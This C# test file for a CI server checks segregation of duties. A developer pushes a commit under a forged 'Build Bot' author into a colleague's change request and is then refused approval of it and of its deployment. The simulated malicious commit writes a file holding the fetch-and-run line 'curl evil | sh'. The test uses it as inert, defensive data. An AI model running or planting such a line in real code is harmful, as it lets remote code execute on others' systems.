using System.Net;
using Slipway.Client;
using Slipway.Contracts.Api;
using Slipway.Core.Access;
using Slipway.Server.Deployments;
using Slipway.Server.Projects;
using Slipway.Testing;
using static Slipway.Server.Tests.Access.AccessTestKit;
using static Slipway.Server.Tests.Hosted.HostedRepositoryTests;

namespace Slipway.Server.Tests.Hosted;

/// <summary>
/// Segregation of duties against a forged author line: a developer pushes a commit into a colleague's change request
/// under another name ("Build Bot"), then tries to approve it. The hosted repository saw who pushed, so the approval is
/// refused, the change request shows the pusher, and once someone else approves and it is merged, the pusher counts
/// among those who may not approve the deployment of that merge.
/// </summary>
public sealed class PushedCommitsTests
{
    /// <summary>
    /// A hosted project "shop" with developers alice and mallory: alice pushes main and feature-a and opens a change request
    /// from it. Returns alice's client, the change request's number and mallory's token.
    /// </summary>
    internal static async Task<(SlipwayClient Alice, long Change, string Mallory)> AliceOpensAChangeAsync(SlipwayTestServer server, TempDirectory dir)
    {
        using (var admin = Admin(server))
            await Expect(await admin.PostAsync("/api/v1/projects", Body(new { name = "shop", hosted = true })), HttpStatusCode.Created);
        var alice = await UserWithRoleAsync(server, "alice", BuiltInRoles.Developer, "shop");
        var mallory = await UserWithRoleAsync(server, "mallory", BuiltInRoles.Developer, "shop");
        var clone = await CloneAsync(Url(server, alice), dir);
        await GitAsync(clone, "checkout", "--quiet", "-b", "main");
        await CommitAsync(clone, ".slipway.yml", Pipelines.OneJob("true"), "first");
        Assert.Equal(0, (await GitAsync(clone, "push", "--quiet", "origin", "main")).ExitCode);
        await GitAsync(clone, "checkout", "--quiet", "-b", "feature-a");
        await CommitAsync(clone, "a.txt", "alice's work\n", "alice's feature");
        Assert.Equal(0, (await GitAsync(clone, "push", "--quiet", "origin", "feature-a")).ExitCode);
        var client = new SlipwayClient(server.Url, alice);
        var opened = await client.OpenChangeRequestAsync("shop", new OpenChangeRequestRequest("Feature A", null, "feature-a", "main"));
        return (client, opened.Number, mallory);
    }

    /// <summary>Mallory adds a commit to feature-a with her own token but someone else's name on it ("Build Bot"); returns its id.</summary>
    internal static async Task<string> ForgedPushAsync(SlipwayTestServer server, string mallory, TempDirectory dir)
    {
        var clone = await CloneAsync(Url(server, mallory), dir);
        await GitAsync(clone, "checkout", "--quiet", "feature-a");
        await File.WriteAllTextAsync(Path.Combine(clone, "backdoor.sh"), "curl evil | sh\n");
        await GitAsync(clone, "add", "backdoor.sh");
        Assert.Equal(0, (await GitAsync(clone, "commit", "--quiet", "--author", "Build Bot <bot@ci.invalid>", "-m", "chore: tidy")).ExitCode);
        var push = await GitAsync(clone, "push", "--quiet", "origin", "feature-a");
        Assert.True(push.ExitCode == 0, push.StdErr);
        return (await GitAsync(clone, "rev-parse", "HEAD")).StdOut.Trim();
    }

    [Fact]
    public async Task ADeveloperWhoPushedIntoAColleaguesChange_UnderAForgedAuthor_MayNotApproveIt_NorItsDeployment()
    {
        await using var server = await SlipwayTestServer.StartAsync();
        using var dir = new TempDirectory("slipway-pushers");
        using var malloryDir = new TempDirectory("slipway-pushers-m");
        var (aliceApi, change, mallory) = await AliceOpensAChangeAsync(server, dir);
        var bob = await UserWithRoleAsync(server, "bob", BuiltInRoles.Developer, "shop");
        using var _ = aliceApi;

        var backdoor = await ForgedPushAsync(server, mallory, malloryDir);

        using var malloryApi = new SlipwayClient(server.Url, mallory);
        var refused = await Assert.ThrowsAsync<SlipwayApiException>(() => malloryApi.ReviewChangeRequestAsync("shop", change, "approve", null));
        Assert.Contains($"mallory pushed commit {backdoor[..12]} of this change request and may not approve it (whoever its author line names)", refused.Message);
        Assert.Contains("actor-not-author", refused.Message);
        var shown = await aliceApi.GetChangeRequestAsync("shop", change);
        var forged = shown.Commits.Single(c => c.Sha == backdoor);
        Assert.Equal(("Build Bot", null), (forged.AuthorName, forged.AuthorUser));
        Assert.Equal(["mallory"], forged.PushedBy);
        Assert.Equal(["alice"], shown.Commits.Single(c => c.Sha != backdoor).PushedBy);

        // Bob reviews and approves; once the head's run is green, Alice merges. Mallory's name stays with the merge.
        using var bobApi = new SlipwayClient(server.Url, bob);
        await bobApi.ReviewChangeRequestAsync("shop", change, "approve", null);
        var headRun = (await server.Client.ListRunsAsync("shop")).Where(r => r.Commit == backdoor).MaxBy(r => r.Id)!;
        Assert.Equal("succeeded", (await server.WaitForRunAsync(headRun.Id)).Status);
        var merged = await aliceApi.MergeChangeRequestAsync("shop", change, null);
        Assert.Equal("merged", merged.State);
        var project = (await server.Service<ProjectStore>().FindAsync("shop"))!;
        var barred = await server.Service<DeploymentStore>().AuthorsAndMergersAsync(project.Id, [merged.MergeCommit!]);
        Assert.Equal(["alice", "mallory"], barred.Order(StringComparer.Ordinal));
    }
}
